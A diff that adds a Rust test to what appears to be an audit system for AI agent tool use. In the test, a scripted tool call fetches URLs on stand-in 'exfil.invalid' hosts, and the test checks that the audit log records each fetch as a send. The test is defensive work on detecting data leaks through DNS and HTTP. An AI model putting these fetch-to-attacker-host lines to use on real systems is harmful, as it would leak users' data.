@@ -1207,6 +1207,32 @@ fn each_use_and_each_denial_is_an_event() {
     }
 }
 
+/// Whoever serves a name's zone hears of each name in it that is looked up.
+#[test]
+fn a_name_that_is_looked_up_is_told_whatever_comes_of_it() {
+    let server = ModelServer::start(Vec::new());
+    let home = Home::with_model(&server, Format::OpenAi);
+    let program = steps(&[tool(&[
+        json!({ "do": "fetch", "url": "https://first-part.exfil.invalid/a?b" }),
+        json!({ "do": "fetch", "url": "https://second-part.exfil.invalid/" }),
+    ])]);
+    let host = with_probe_tool(&home).args(["--allow", "net:*.exfil.invalid"]);
+    let run = run_of(&host.probe(&program).output().expect(0));
+    let rows = audit(&home, &run);
+    for target in [
+        "GET https://first-part.exfil.invalid/a",
+        "GET https://second-part.exfil.invalid/",
+    ] {
+        let sent = row(&rows, &[("target", json!(target))]);
+        assert_eq!(
+            (&sent["way"], &sent["count"], &sent["failed"]),
+            (&json!("send"), &json!(1), &json!(1)),
+            "{sent}"
+        );
+        assert_eq!(sent["grant"], "net:*.exfil.invalid", "{sent}");
+    }
+}
+
 #[test]
 fn a_run_that_used_nothing_says_so() {
     let server = ModelServer::start(Vec::new());
